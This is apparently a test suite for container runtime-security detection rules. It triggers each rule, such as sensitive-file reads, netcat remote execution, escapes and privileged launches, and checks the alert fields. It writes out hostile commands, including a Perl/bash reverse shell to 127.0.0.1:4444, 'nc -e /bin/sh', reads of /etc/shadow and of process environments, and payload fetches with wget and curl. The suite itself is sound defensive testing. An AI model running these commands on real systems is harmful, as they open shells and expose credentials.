/** What is suspicious because it is done in a container, and how containers are started. */

import { PLAIN_NAME, podLabels, PRIVILEGED_NAME } from '../container-fixture.ts';
import type { LiveCase } from '../live-case.ts';
import { call, quoted } from '../shell-text.ts';

const plain = {
  'container.id': /^[0-9a-f]{12}$/u,
  'container.name': PLAIN_NAME,
  'container.type': 'docker',
  'container.image.repository': 'saker-test/busybox',
  'container.image.tag': '1.0',
  'container.label[tier]': 'front',
  'container.privileged': 'false',
} as const;

const privileged = {
  'container.name': PRIVILEGED_NAME,
  'container.privileged': 'true',
  'k8s.pod.name': podLabels['io.kubernetes.pod.name'],
  'k8s.ns.name': podLabels['io.kubernetes.pod.namespace'],
  'k8s.pod.uid': podLabels['io.kubernetes.pod.uid'],
} as const;

const reverseShell = `
use IO::Socket::INET;
my $server = IO::Socket::INET->new(Listen => 1, LocalAddr => "127.0.0.1:4444") or die;
fork or exec "bash", "-c", "exec bash -i >&/dev/tcp/127.0.0.1/4444 0>&1";
my $client = $server->accept;
$client->print("exit\\n");
1 while <$client>;
wait;
`;

const AF_PACKET = 17;
const SOCK_RAW = 3;

const programs: readonly LiveCase[] = [
  {
    name: 'the shadow file of the container',
    rule: 'Read sensitive file untrusted',
    place: 'container',
    run: 'cat /etc/shadow; :',
    fields: {
      ...plain,
      'fd.name': '/etc/shadow',
      'proc.name': 'cat',
      'proc.pname': 'bash',
      'proc.vpid': { above: 1 },
      'user.name': 'root',
    },
  },
  {
    name: 'through the root of the first process',
    rule: 'Read sensitive file untrusted',
    place: 'container',
    run: 'cat /proc/1/root/etc/shadow',
    fields: { 'fd.name': '/etc/shadow', 'container.name': PLAIN_NAME },
  },
  {
    name: 'apt',
    rule: 'Launch Package Management Process in Container',
    place: 'container',
    run: 'as apt true update',
    fields: { ...plain, 'proc.cmdline': 'apt update', 'proc.exepath': '/usr/bin/true' },
  },
  {
    name: 'apt on the host',
    rule: 'Launch Package Management Process in Container',
    quiet: true,
    run: 'as apt true update',
  },
  {
    name: 'nmap',
    rule: 'Launch Suspicious Network Tool in Container',
    place: 'container',
    run: 'as nmap true 203.0.113.0/24',
    fields: { ...plain, 'proc.cmdline': 'nmap 203.0.113.0/24' },
  },
  {
    name: 'netcat in a container is not on the host',
    rule: 'Launch Suspicious Network Tool on Host',
    place: 'container',
    quiet: true,
    run: 'as nc true -l 4444',
  },
  {
    name: 'nc -e',
    rule: 'Netcat Remote Code Execution in Container',
    place: 'container',
    run: 'as nc true -e /bin/sh 203.0.113.9 4444',
    fields: { ...plain, 'proc.cmdline': 'nc -e /bin/sh 203.0.113.9 4444' },
  },
  {
    name: 'ncat --exec',
    rule: 'Netcat Remote Code Execution in Container',
    place: 'container',
    run: 'as ncat true --exec /bin/sh -l 4444',
    fields: { 'proc.name': 'ncat' },
  },
  {
    name: 'nc that listens',
    rule: 'Netcat Remote Code Execution in Container',
    place: 'container',
    quiet: true,
    run: 'as nc true -l 4444',
  },
  {
    name: 'below npm',
    rule: 'Network Tool Executed During NPM Package Install',
    place: 'container',
    run: `ln -s /usr/bin/true nmap; as npm perl -e ${quoted('system("./nmap"); 1')}`,
    fields: { ...plain, 'proc.name': 'nmap', 'proc.pname': 'npm' },
  },
  {
    name: 'scp',
    rule: 'Launch Remote File Copy Tools in Container',
    place: 'container',
    run: 'as scp true notes 203.0.113.9:',
    fields: { ...plain, 'proc.name': 'scp' },
  },
  {
    name: 'wget',
    rule: 'Launch Ingress Remote File Copy Tools in Container',
    place: 'container',
    run: 'as wget true http://example.test/tool',
    fields: { ...plain, 'proc.name': 'wget' },
  },
  {
    name: 'curl into a file',
    rule: 'Launch Ingress Remote File Copy Tools in Container',
    place: 'container',
    run: 'as curl true -o tool http://example.test/tool',
    fields: { 'proc.name': 'curl' },
  },
  {
    name: 'curl to the terminal',
    rule: 'Launch Ingress Remote File Copy Tools in Container',
    place: 'container',
    quiet: true,
    run: 'as curl true http://example.test/tool',
  },
  {
    name: 'kubectl',
    rule: 'Kubernetes Client Tool Launched in Container',
    place: 'container',
    run: 'as kubectl true get pods',
    fields: { ...plain, 'proc.cmdline': 'kubectl get pods' },
  },
  {
    name: 'by base64',
    rule: 'Decoding Payload in Container',
    place: 'container',
    run: 'base64 -d </dev/null; :',
    fields: { ...plain, 'proc.cmdline': 'base64 -d' },
  },
  {
    name: 'base64 that encodes',
    rule: 'Decoding Payload in Container',
    place: 'container',
    quiet: true,
    run: 'base64 </dev/null; :',
  },
];

const calls: readonly LiveCase[] = [
  {
    name: 'a shell over loopback',
    rule: 'Redirect STDOUT/STDIN to Network Connection in Container',
    place: 'container',
    run: `perl -e ${quoted(reverseShell)}`,
    fields: {
      ...plain,
      'evt.type': 'dup2',
      'fd.type': 'ipv4',
      'fd.l4proto': 'tcp',
      'fd.sip': '127.0.0.1',
      'fd.sport': 4444,
      'fd.rip': '127.0.0.1',
      'fd.name': /^127\.0\.0\.1:\d+->127\.0\.0\.1:4444$/u,
      'proc.name': 'bash',
    },
  },
  {
    name: 'a shell with a file',
    rule: 'Redirect STDOUT/STDIN to Network Connection in Container',
    place: 'container',
    quiet: true,
    run: 'bash -c : >notes 2>&1',
  },
  {
    name: 'AF_PACKET',
    rule: 'Packet socket created in container',
    place: 'container',
    run: call('socket', AF_PACKET, SOCK_RAW, 0),
    fields: { ...plain, 'evt.type': 'socket', 'evt.args': /AF_PACKET/u, 'proc.name': 'perl' },
  },
  {
    name: 'AF_INET',
    rule: 'Packet socket created in container',
    place: 'container',
    quiet: true,
    run: call('socket', 2, 1, 0),
  },
  {
    name: 'without the right to',
    rule: 'Change namespace privileges via unshare',
    place: 'container',
    run: 'unshare --user true',
    fields: { ...plain, 'evt.type': 'unshare', 'proc.name': 'unshare' },
  },
  {
    name: 'with the right to',
    rule: 'Change namespace privileges via unshare',
    place: 'privileged',
    quiet: true,
    run: 'unshare --mount true',
  },
  {
    name: 'out of the container',
    rule: 'Change thread namespace',
    place: 'privileged',
    run: 'nsenter --uts=/proc/1/ns/uts true',
    fields: { ...privileged, 'evt.type': 'setns', 'proc.name': 'nsenter' },
  },
  {
    name: 'a module that is none',
    rule: 'Linux Kernel Module Injection Detected',
    place: 'privileged',
    run: call('init_module', new Uint8Array(64), 64, new Uint8Array(1)),
    fields: { ...privileged, 'evt.type': 'init_module', 'evt.res': /^E[A-Z]+$/u },
  },
];

const files: readonly LiveCase[] = [
  {
    name: 'of its own',
    rule: 'Read environment variable from /proc files',
    place: 'container',
    run: 'cat /proc/self/environ',
    fields: { ...plain, 'fd.name': /^\/proc\/(?:self|\d+)\/environ$/u },
  },
  {
    name: 'on the host',
    rule: 'Read environment variable from /proc files',
    quiet: true,
    run: 'cat /proc/self/environ',
  },
  {
    name: 'a file of that name',
    rule: 'Detect release_agent File Container Escapes',
    place: 'privileged',
    run: ': >release_agent',
    fields: { ...privileged, 'fd.name': '{folder}/release_agent' },
  },
  {
    name: 'without the right to',
    rule: 'Detect release_agent File Container Escapes',
    place: 'container',
    quiet: true,
    run: ': >release_agent',
  },
  {
    name: 'a file that may be run',
    rule: 'Container Drift Detected (chmod)',
    place: 'container',
    run: ': >tool; chmod +x tool',
    fields: { ...plain, 'proc.cmdline': 'chmod +x tool', 'evt.arg.mode': /S_IXUSR/u },
  },
  {
    name: 'a file that may be run',
    rule: 'Container Drift Detected (open+create)',
    place: 'container',
    run: call('open', 'tool', 0o101, 0o755),
    fields: { ...plain, 'proc.name': 'perl' },
  },
  {
    name: 'a file that may not be run',
    rule: 'Container Drift Detected (open+create)',
    place: 'container',
    quiet: true,
    run: call('open', 'tool', 0o101, 0o644),
  },
  {
    name: 'through a descriptor',
    rule: 'Modify Container Entrypoint',
    place: 'container',
    run: 'exec 5>notes; echo >/proc/self/fd/5',
    fields: { ...plain, 'proc.name': 'bash' },
  },
  {
    name: 'a disk',
    rule: 'Privileged Container Device Access',
    place: 'privileged',
    run: 'private /dev; : >/dev/sdz; read -r line </dev/sdz',
    fields: { ...privileged, 'fd.name': '/dev/sdz' },
  },
  {
    name: 'below /host',
    rule: 'Container Access to Host Sensitive Paths',
    place: 'container',
    run: 'mkdir -p /host/etc; : >/host/etc/passwd',
    fields: { ...plain, 'fd.name': '/host/etc/passwd' },
  },
  {
    name: 'a program of an upper layer',
    rule: 'Drop and execute new binary in container',
    place: 'privileged',
    run: `
      private /mnt; cd /mnt; mkdir lower upper work both
      mount -t overlay -o lowerdir=lower,upperdir=upper,workdir=work overlay both
      cp /usr/bin/true both/dropped; both/dropped; :`,
    fields: {
      ...privileged,
      'proc.exe': 'both/dropped',
      'proc.exepath': '/mnt/both/dropped',
      'evt.arg.flags': /EXE_UPPER_LAYER/u,
      'proc.pname': 'bash',
    },
  },
  {
    name: 'a program of a lower layer',
    rule: 'Drop and execute new binary in container',
    place: 'privileged',
    quiet: true,
    run: `
      private /mnt; cd /mnt; mkdir lower upper work both; cp /usr/bin/true lower/given
      mount -t overlay -o lowerdir=lower,upperdir=upper,workdir=work overlay both
      both/given; :`,
  },
];

const containers: readonly LiveCase[] = [
  {
    name: 'by docker exec',
    rule: 'Terminal shell in container',
    place: 'runtime',
    run: `docker exec --tty --env SAKER_CASE ${PLAIN_NAME} sh -c :`,
    fields: { ...plain, 'proc.name': 'sh', 'proc.tty': { above: 0 }, 'proc.cmdline': 'sh -c :' },
  },
  {
    name: 'without a terminal',
    rule: 'Terminal shell in container',
    place: 'runtime',
    quiet: true,
    run: `docker exec --env SAKER_CASE ${PLAIN_NAME} sh -c :`,
  },
  {
    name: 'by kubectl cp',
    rule: 'Exfiltrating Artifacts via Kubernetes Control Plane',
    place: 'runtime',
    run: `docker exec --env SAKER_CASE ${PLAIN_NAME} tar cf - "$FOLDER"/..`,
    fields: { ...plain, 'proc.name': 'tar', 'fd.name': /prelude\.bash$/u },
  },
  {
    name: 'debugfs',
    rule: 'Debugfs Launched in Privileged Container',
    place: 'privileged',
    run: 'as debugfs true /dev/sda1',
    fields: { ...privileged, 'proc.cmdline': 'debugfs /dev/sda1' },
  },
  {
    name: 'debugfs in another container',
    rule: 'Debugfs Launched in Privileged Container',
    place: 'container',
    quiet: true,
    run: 'as debugfs true /dev/sda1',
  },
  {
    name: 'mount',
    rule: 'Mount Launched in Privileged Container',
    place: 'privileged',
    run: 'as mount true /dev/sda1 /mnt',
    fields: { ...privileged, 'proc.cmdline': 'mount /dev/sda1 /mnt' },
  },
  {
    name: 'mount that lists',
    rule: 'Mount Launched in Privileged Container',
    place: 'privileged',
    quiet: true,
    run: 'as mount true -l',
  },
];

/** A container that ends at once; its first process has the key of the case. */
const starts = (...options: readonly string[]): string =>
  `docker run --rm --network none --env SAKER_CASE ${options.join(' ')} "$IMAGE" true`;

const beginnings: readonly LiveCase[] = [
  {
    name: 'with all rights',
    rule: 'Launch Privileged Container',
    place: 'runtime',
    run: starts('--name', 'saker-all-rights', '--privileged'),
    fields: { 'container.name': 'saker-all-rights', 'proc.name': 'true', 'proc.vpid': 1 },
  },
  {
    name: 'with one right more',
    rule: 'Launch Excessively Capable Container',
    place: 'runtime',
    run: starts('--name', 'saker-one-right', '--cap-add', 'SYS_PTRACE'),
    fields: {
      'container.name': 'saker-one-right',
      'thread.cap_permitted': /CAP_SYS_PTRACE/u,
    },
  },
  {
    name: 'with the rights of the default',
    rule: 'Launch Excessively Capable Container',
    place: 'runtime',
    quiet: true,
    run: starts(),
  },
  {
    name: 'with a directory of the host',
    rule: 'Launch Sensitive Mount Container',
    place: 'runtime',
    run: starts('--name', 'saker-mount', '--volume', '/etc:/config:ro'),
    fields: { 'container.name': 'saker-mount', 'container.mounts': /\/etc:\/config:ro:false/u },
  },
  {
    name: 'with no directory of the host',
    rule: 'Launch Sensitive Mount Container',
    place: 'runtime',
    quiet: true,
    run: starts(),
  },
  {
    name: 'as root',
    rule: 'Container Run as Root User',
    place: 'runtime',
    run: starts('--name', 'saker-root'),
    fields: { 'container.name': 'saker-root', 'user.uid': 0 },
  },
  {
    name: 'as somebody',
    rule: 'Container Run as Root User',
    place: 'runtime',
    quiet: true,
    run: starts('--user', '1000'),
  },
  {
    name: 'by ctr',
    rule: 'Container Run as Root User',
    place: 'runtime',
    run:
      'ctr run --rm --snapshotter native --runc-binary "$RUNC" --env SAKER_CASE=$SAKER_CASE ' +
      '--label tier=back docker.io/"$IMAGE" saker-ctr /bin/true',
    fields: {
      'container.id': 'saker-ctr',
      'container.name': 'saker-ctr',
      'container.type': 'containerd',
      'container.image.repository': 'docker.io/saker-test/busybox',
      'container.label[tier]': 'back',
    },
  },
];

export const cases: readonly LiveCase[] = [
  ...programs,
  ...calls,
  ...files,
  ...containers,
  ...beginnings,
];
